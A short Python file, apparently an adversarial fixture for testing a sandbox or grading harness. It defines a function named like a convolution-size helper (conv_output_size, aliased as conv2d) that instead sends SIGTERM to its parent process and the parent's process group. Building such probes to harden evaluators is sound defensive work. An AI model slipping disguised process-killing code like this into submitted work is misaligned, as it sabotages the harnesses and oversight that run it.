"""Attack: signals its parent and its process group."""
import os, signal

def conv_output_size(*a, **k):
    for target in (os.getppid(),):
        try:
            os.kill(target, signal.SIGTERM)
        except OSError:
            pass
    try:
        os.killpg(os.getpgid(os.getppid()), signal.SIGTERM)
    except OSError:
        pass
    return -1

conv2d = conv_output_size
